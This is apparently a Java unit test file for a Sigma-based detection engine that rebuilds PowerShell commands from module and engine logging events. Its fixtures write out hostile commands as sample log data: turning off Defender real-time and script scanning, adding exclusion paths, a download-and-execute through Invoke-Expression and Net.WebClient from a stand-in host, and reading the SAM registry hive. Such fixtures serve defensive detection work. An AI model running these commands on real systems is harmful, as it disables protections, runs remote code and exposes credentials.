package org.gamekeeper.engine.mapping;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;

import java.util.Map;
import org.gamekeeper.sigma.SigmaEvent;
import org.junit.jupiter.api.Test;

/** Module logging's payload read back as the commands it records. */
class ModulePayloadTest {

    @Test
    void commandsAndTheirBoundParametersAreWrittenAsTyped() {
        String payload = "CommandInvocation(Set-MpPreference): \"Set-MpPreference\"\r\n"
                + "ParameterBinding(Set-MpPreference): name=\"DisableRealtimeMonitoring\"; value=\"True\"\r\n"
                + "ParameterBinding(Set-MpPreference): name=\"ExclusionPath\"; value=\"C:\\Users\\Public\"\r\n"
                + "CommandInvocation(Out-Null): \"Out-Null\"\r\n";
        assertEquals("Set-MpPreference -DisableRealtimeMonitoring $true -ExclusionPath C:\\Users\\Public\nOut-Null",
                ModulePayload.script(payload));
    }

    @Test
    void aValueOverSeveralLinesKeepsItsTextAndQuotesInside() {
        String payload = "CommandInvocation(Invoke-Expression): \"Invoke-Expression\"\n"
                + "ParameterBinding(Invoke-Expression): name=\"Command\"; value=\"$c = New-Object Net.WebClient\n"
                + "$c.DownloadString(\"http://198.51.100.7/a.ps1\")\"\n"
                + "NonTerminatingError(Invoke-Expression): \"denied\"\n";
        assertEquals("Invoke-Expression -Command $c = New-Object Net.WebClient\n$c.DownloadString(\"http://198.51.100.7/a.ps1\")",
                ModulePayload.script(payload));
    }

    @Test
    void aBindingWithoutItsInvocationStartsItsOwnCommandAndOtherTextPassesAsItIs() {
        assertEquals("Get-Item -Path HKLM:\\SAM", ModulePayload.script("ParameterBinding(Get-Item): name=\"Path\"; value=\"HKLM:\\SAM\"\r\n"));
        assertEquals("no records here", ModulePayload.script("no records here"));
        assertNull(ModulePayload.script(null));
        assertEquals("CommandInvocation(broken", ModulePayload.script("CommandInvocation(broken"), "a record it cannot read leaves the text");
    }

    @Test
    void theDerivedScriptTextOfAModuleEventIsItsCommandsNormalised() {
        SigmaEvent module = fields(Map.of("EventID", "4103",
                "Payload", "CommandInvocation(Add-MpPreference): \"Add-MpPreference\"\nParameterBinding(Add-MpPreference): name=\"ExclusionPath\"; value=\"C:\\Temp\"\n"));
        assertEquals(ScriptBlockNormalizer.normalize("Add-MpPreference -ExclusionPath C:\\Temp"),
                DerivedFields.compute(DerivedFields.SCRIPT_BLOCK_TEXT, module));
        SigmaEvent block = fields(Map.of("EventID", "4104", "ScriptBlockText", "Get-Date", "Payload", "CommandInvocation(X): \"X\""));
        assertEquals(ScriptBlockNormalizer.normalize("Get-Date"), DerivedFields.compute(DerivedFields.SCRIPT_BLOCK_TEXT, block),
                "a script block's own text wins");
    }

    @Test
    void theClassicEngineStartGivesItsHostApplicationUpToTheNextNamedLine() {
        String data = "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\r\n\tSequenceNumber=13\r\n\r\n"
                + "\tHostName=ConsoleHost\r\n\tHostApplication=powershell.exe & {Set-MpPreference -DisableRealtimeMonitoring 1\n"
                + "Set-MpPreference -DisableScriptScanning 1}\r\n\tEngineVersion=5.1.26100.1\r\n\tRunspaceId=x\r\n";
        SigmaEvent classic = new MultiData(Map.of("EventID", "400"), java.util.List.of("Available", "None", data));
        assertEquals("powershell.exe & {Set-MpPreference -DisableRealtimeMonitoring 1\nSet-MpPreference -DisableScriptScanning 1}",
                ModulePayload.hostApplication(classic));
        assertEquals(CommandLineNormalizer.normalize(ModulePayload.hostApplication(classic)),
                DerivedFields.compute(DerivedFields.SCRIPT_BLOCK_TEXT, classic));
        SigmaEvent provider = new MultiData(Map.of("EventID", "600"), java.util.List.of("Registry", "Started", data));
        assertNull(DerivedFields.compute(DerivedFields.SCRIPT_BLOCK_TEXT, provider),
                "the provider starts (600) repeat the host application six times a session: left alone");
        assertEquals("powershell -nop", ModulePayload.hostApplication(fields(Map.of("HostApplication", "powershell -nop"))),
                "an export's own field first");
        assertNull(ModulePayload.hostApplication(new MultiData(Map.of(), java.util.List.of("no host here"))));
    }

    /** An event whose unnamed Data elements are a list. */
    private record MultiData(Map<String, String> m, java.util.List<String> data) implements SigmaEvent {
        @Override
        public String field(String name) {
            return name.equals("Data") ? (data.isEmpty() ? null : data.get(0)) : m.get(name);
        }

        @Override
        public java.util.List<String> fieldValues(String name) {
            return name.equals("Data") ? data : SigmaEvent.super.fieldValues(name);
        }

        @Override
        public void forEachField(java.util.function.BiConsumer<String, String> sink) {
            m.forEach(sink);
        }

        @Override
        public long timestampMillis() {
            return 0;
        }
    }

    private static SigmaEvent fields(Map<String, String> m) {
        return new MultiData(m, java.util.List.of());
    }
}
